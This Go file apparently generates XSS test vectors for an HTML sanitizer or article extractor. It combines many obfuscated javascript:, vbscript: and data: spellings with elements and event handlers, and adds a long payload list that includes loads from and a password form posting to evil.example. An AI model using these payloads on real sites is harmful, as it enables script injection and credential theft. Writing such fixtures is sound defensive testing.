package hostile

import (
	"fmt"
	"strings"
)

// Vector is markup that makes something happen in a browser, if it is handed
// on as it is.
type Vector struct {
	Name   string
	Markup string
}

// call is what a vector would run.
const call = "alert(1)"

// spellings are ways to write a scheme that browsers, or those who come before
// them, read as the scheme.
var spellings = []struct {
	name string
	of   func(scheme string) string
}{
	{"plain", func(s string) string { return s + ":" }},
	{"capitals", func(s string) string { return strings.ToUpper(s[:1]) + s[1:2] + strings.ToUpper(s[2:]) + ":" }},
	{"blanks before", func(s string) string { return " \n\t" + s + ":" }},
	{"control before", func(s string) string { return "&#1;" + s + ":" }},
	{"tab inside", func(s string) string { return s[:3] + "\t" + s[3:] + ":" }},
	{"line end inside", func(s string) string { return s[:3] + "\n" + s[3:] + ":" }},
	{"tab reference inside", func(s string) string { return s[:3] + "&Tab;" + s[3:] + ":" }},
	{"line end reference inside", func(s string) string { return s[:3] + "&NewLine;" + s[3:] + ":" }},
	{"zero inside", func(s string) string { return s[:3] + "&#0;" + s[3:] + ":" }},
	{"soft hyphen inside", func(s string) string { return s[:3] + "&shy;" + s[3:] + ":" }},
	{"zero width inside", func(s string) string { return s[:3] + "\u200b" + s[3:] + ":" }},
	{"decimal reference", func(s string) string { return fmt.Sprintf("&#%d;%s:", s[0], s[1:]) }},
	{"decimal reference with zeros", func(s string) string { return fmt.Sprintf("&#00000%d;%s:", s[0], s[1:]) }},
	{"decimal reference without end", func(s string) string { return fmt.Sprintf("&#%d%s:", s[0], s[1:]) }},
	{"hexadecimal reference", func(s string) string { return fmt.Sprintf("&#x%x;%s:", s[0], s[1:]) }},
	{"references throughout", func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, "&#x%X;", s[i])
		}
		return b.String() + "&#58;"
	}},
	{"colon reference", func(s string) string { return s + "&colon;" }},
	{"colon reference twice", func(s string) string { return s + "&amp;colon;" }},
	{"reference twice", func(s string) string { return fmt.Sprintf("&amp;#%d;%s:", s[0], s[1:]) }},
	{"percent signs", func(s string) string { return s + "%3A" }},
	{"percent signs throughout", func(s string) string { return fmt.Sprintf("%%%02x%s%%3a", s[0], s[1:]) }},
	{"backslash", func(s string) string { return s + `\:` }},
	{"full width colon", func(s string) string { return s + ":" + "\uff1a" }},
	{"byte order mark", func(s string) string { return "\ufeff" + s + ":" }},
	{"view-source", func(s string) string { return "view-source:" + s + ":" }},
}

// schemes are those that do something, with what follows them.
var schemes = []struct{ name, rest string }{
	{"javascript", call},
	{"vbscript", "msgbox(1)"},
	{"data", "text/html,<script>" + call + "</script>"},
}

// places are where an address does something; %s is the address.
var places = []struct{ name, markup string }{
	{"link", `<a href="%s">the harbour master</a>`},
	{"link, single quotes", `<a href='%s'>the harbour master</a>`},
	{"picture", `<img src="%s" alt="the harbour">`},
	{"quote", `<blockquote cite="%s">the harbour</blockquote>`},
	{"video", `<video src="%s" poster="%[1]s">the harbour</video>`},
	{"area", `<map name=m><area href="%s" alt=x></map>`},
	{"frame", `<iframe src="%s"></iframe>`},
	{"object", `<object data="%s">the harbour</object>`},
	{"form", `<form action="%s"><button formaction="%[1]s">send</button></form>`},
	{"SVG link", `<svg><a xlink:href="%s"><text>x</text></a></svg>`},
	{"MathML link", `<math href="%s"><mi>x</mi></math>`},
	{"base", `<base href="%s"><a href="x">y</a>`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=%s">`},
	{"source", `<picture><source srcset="%s"><img src="/x.png" alt=y></picture>`},
	{"licence", `<meta name="dcterms.license" content="%s">`},
	{"footnote", `<sup><a href="#n1">1</a></sup><ol><li id=n1>%s</li></ol>`},
	{"footnote with a title", `<sup><a href="#n1">1</a></sup><ol><li id=n1>%s "the harbour"</li></ol>`},
}

// handlers are attributes that run something.
var handlers = []string{"onclick", "onerror", "onload", "ONLOAD", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin"}

// elements are bearers of handlers; %s is the attribute.
var elements = []struct{ name, markup string }{
	{"paragraph", `<p %s>The boat came in at noon.</p>`},
	{"link", `<a href="/x" %s>the boat</a>`},
	{"picture", `<img src=x %s>`},
	{"SVG", `<svg %s><circle r=1 /></svg>`},
	{"details", `<details open %s><summary>x</summary>y</details>`},
	{"unknown element", `<x-boat tabindex=1 %s>the boat</x-boat>`},
	{"video", `<video %s><source %[1]s></video>`},
	{"slash for space", `<img/src=x/%s/alt=y>`},
}

// others are by themselves.
var others = []string{
	`<script>` + call + `</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>` + call + `</scr</script>ipt>`,
	`<<script>` + call + `//<</script>`,
	`<script x>` + call + `</script x>`,
	`<svg><script>` + call + `</script></svg>`,
	`<svg><script href="data:,` + call + `"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=` + call + `></style></mglyph></table></mtext></math>`,
	`<svg></p><style><a id="</style><img src=x onerror=` + call + `>"></a></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=` + call + `>">x</p></noscript>`,
	`<noscript><img src=x onerror=` + call + `></noscript>`,
	`<textarea><p title="</textarea><img src=x onerror=` + call + `>">x</p></textarea>`,
	`<title><p title="</title><img src=x onerror=` + call + `>">x</p></title>`,
	`<xmp><p title="</xmp><img src=x onerror=` + call + `>">x</p></xmp>`,
	`<iframe srcdoc="<script>` + call + `</script>"></iframe>`,
	`<iframe><p title="</iframe><img src=x onerror=` + call + `>">x</p></iframe>`,
	`<noembed><p title="</noembed><img src=x onerror=` + call + `>">x</p></noembed>`,
	`<template><script>` + call + `</script></template>`,
	`<template shadowrootmode=open><script>` + call + `</script></template>`,
	`<style>@import "//evil.example/x.css";</style>`,
	`<p style="background:url(javascript:` + call + `)">x</p>`,
	`<p style="width:expression(` + call + `)">x</p>`,
	`<div style="position:fixed;inset:0">x</div>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<link rel=import href=//evil.example/x.html>`,
	`<embed src="//evil.example/x.swf">`,
	`<object type="text/html" data="//evil.example/"></object>`,
	`<applet code=x></applet>`,
	`<form action=//evil.example><input type=password name=p><input type=submit></form>`,
	`<input autofocus onfocus=` + call + `>`,
	`<button form=f formaction="javascript:` + call + `">x</button>`,
	`<p id=cookie name=cookie>x</p>`,
	`<a id=defaultView name=location href=/x>x</a>`,
	`<form id=x name=y><input name=attributes></form>`,
	`<a href="/x" target=_blank rel=opener>x</a>`,
	`<a href="/x" ping="//evil.example/">x</a>`,
	`<a href=/x download=y.exe>x</a>`,
	`<img src=x srcset="javascript:` + call + ` 2x">`,
	`<img src="x" usemap=#m>`,
	`<img dynsrc="javascript:` + call + `" lowsrc="javascript:` + call + `">`,
	`<table background="javascript:` + call + `"><tr><td background="javascript:` + call + `">x</table>`,
	`<bgsound src="javascript:` + call + `">`,
	`<marquee onstart=` + call + `>x</marquee>`,
	`<isindex action="javascript:` + call + `" type=image>`,
	`<keygen autofocus onfocus=` + call + `>`,
	`<portal src="//evil.example/"></portal>`,
	`<frameset onload=` + call + `><frame src="javascript:` + call + `"></frameset>`,
	`<body onload=` + call + ` background="javascript:` + call + `">x`,
	`<html onclick=` + call + `>x`,
	`<svg><animate xlink:href=#a attributeName=href values="javascript:` + call + `" /><a id=a><text>x</text></a></svg>`,
	`<svg><set attributeName=onmouseover to=` + call + `></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=` + call + `>#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>` + call + `</script>"></iframe></foreignObject></svg>`,
	`<math><annotation-xml encoding="text/html"><script>` + call + `</script></annotation-xml></math>`,
	`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:` + call + `">x</maction></math>`,
	`<!--><script>` + call + `</script>-->`,
	`<!--[if gte IE 4]><script>` + call + `</script><![endif]-->`,
	`<![CDATA[<script>` + call + `</script>]]>`,
	`<?xml-stylesheet href="javascript:` + call + `"?>x`,
	`<p title='"><script>` + call + `</script>'>x</p>`,
	`<img alt="` + "``onerror=" + call + `" src=x>`,
	`&lt;script&gt;` + call + `&lt;/script&gt;`,
	`&lt;img src=x onerror=` + call + `&gt;`,
	`&amp;lt;script&amp;gt;` + call + `&amp;lt;/script&amp;gt;`,
	`[the boat](javascript:` + call + `)`,
	`[the boat](javascript&colon;` + call + `)`,
	`![the boat](x "onerror=` + call + `")`,
	`[a]: javascript:` + call + `
[a]`,
	`<p>&lt;javascript:` + call + `&gt;</p>`,
	`<code>&lt;/code&gt;&lt;script&gt;` + call + `&lt;/script&gt;</code>`,
	`<pre class="language-a_b onclick=` + call + `"><code class='language-__"onclick=` + call + `'>&lt;script&gt;` + call + `&lt;/script&gt;</code></pre>`,
	"<pre>```\n&lt;script&gt;" + call + "&lt;/script&gt;\n```</pre>",
	"<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;" + call + "&lt;/script&gt;</code></pre>",
	`<h2>&lt;img src=x onerror=` + call + `&gt;</h2>`,
	`<a href="/x)[y](javascript:` + call + `)">z</a>`,
	`<a href="/x" title='" onmouseover="` + call + `'>z</a>`,
	`<a href="/x&quot; onmouseover=&quot;` + call + `">z</a>`,
	`<img src="/x.png" alt='](javascript:` + call + `)'>`,
	`<img src="/x.png" alt="&lt;script&gt;` + call + `&lt;/script&gt;">`,
	`<img src="/x.png&quot; onerror=&quot;` + call + `" alt=y>`,
	`<a href="//evil.example\@good.example/">x</a>`,
	`<a href="https:javascript:` + call + `">x</a>`,
	`<table><caption><script>` + call + `</script>x</caption><tr><td>y</table>`,
	`<ol><li value="1&quot; onclick=&quot;` + call + `">x</ol>`,
	`<time datetime="1&quot; onclick=&quot;` + call + `">x</time>`,
	`<td colspan='2" onclick="` + call + `'>x</td>`,
	`<iframe src="https://www.youtube.com/embed/` + "\u00a0" + `# "></iframe>`,
	`<p>&lt;ſcript&gt;</p><pre>&lt;img src=x onerror=` + call + `&gt;</pre>`,
	`<p>&lt;ſtyle</p><p>the <code>&lt;img src=x onerror=` + call + `&gt;</code></p>`,
	`<sup><a href="#n1">1</a></sup><ol><li id=n1>&lt; javascript:` + call + ` &gt;</li></ol>`,
	`<sup><a href="#n1">1</a></sup><ol><li id=n1>javascript:` + call + `<br>'the harbour'</li></ol>`,
	`<x-boat><template shadowrootmode=open><script>` + call + `</script><img src=x onerror=` + call + `><a href="javascript:` + call + `">the boat</a></template></x-boat>`,
	`<math><mtext><img src=x onerror=` + call + `><a href="javascript:` + call + `">&lt;script&gt;` + call + `&lt;/script&gt;</a></mtext></math>`,
	`<math><semantics><annotation-xml encoding="text/html"><script>` + call + `</script><p onclick=` + call + `>the boat</p></annotation-xml></semantics></math>`,
	`<math><mtext>\href{javascript:` + call + `}{x}<p>](javascript:` + call + `)</p></mtext></math>`,
	`<sup><a href="#n1">1</a></sup><ol><li id=n1>javascript:<code>` + call + ` (x</code>)</li></ol>`,
	"<sup><a href=#n1>1</a></sup><ol><li id=n1><pre>&lt;img src=x onerror=" + call + "&gt;\n\nx</pre></ol>",
	"<sup><a href=#n1>1</a></sup><ol><li id=n1>x<ul><li><pre>&lt;img src=x onerror=" + call + "&gt;\n\nx</pre></ul></ol>",
	"<dl><dt>x<dd><blockquote><ul><li><pre>&lt;img src=x onerror=" + call + "&gt;\n\nx</pre></ul></blockquote></dl>",
}

// Vectors returns all active content: every scheme in every spelling in every
// place, every handler on every element, and others.
func Vectors() (list []Vector) {
	for _, p := range places {
		for _, s := range schemes {
			for _, w := range spellings {
				list = append(list, Vector{p.name + ", " + s.name + ", " + w.name, fmt.Sprintf(p.markup, w.of(s.name)+strings.ReplaceAll(s.rest, "<", "&lt;"))})
			}
		}
	}
	for _, e := range elements {
		for _, h := range handlers {
			for _, form := range []string{"%s=" + call, `%s="` + call + `"`, "%s='" + call + "'", "%s = `" + call + "`"} {
				attribute := fmt.Sprintf(form, h)
				list = append(list, Vector{e.name + ", " + attribute, fmt.Sprintf(e.markup, attribute)})
			}
		}
	}
	for i, o := range others {
		list = append(list, Vector{fmt.Sprintf("other %d", i), o})
	}
	return list
}

// Within returns a page with the vector in the middle of the article, between
// paragraphs and inside of one.
func (v Vector) Within() string {
	first, rest, _ := strings.Cut(page("", ""), "</p>")
	half := len("The lighthouse keeper of Grey Point")
	start := strings.Index(first, paragraphs[0]) + half
	return first[:start] + " " + v.Markup + first[start:] + "</p>\n" + v.Markup + rest
}

// active are pages with some of the vectors, which must not stop the article
// from coming out.
func active() (list []Document) {
	vectors := Vectors()
	for i := 0; i < len(vectors); i += len(vectors) / 12 {
		v := vectors[i]
		list = append(list, Document{Group: "active", Name: v.Name, Data: []byte(page(v.Markup, v.Markup)), Article: paragraphs})
	}
	return list
}
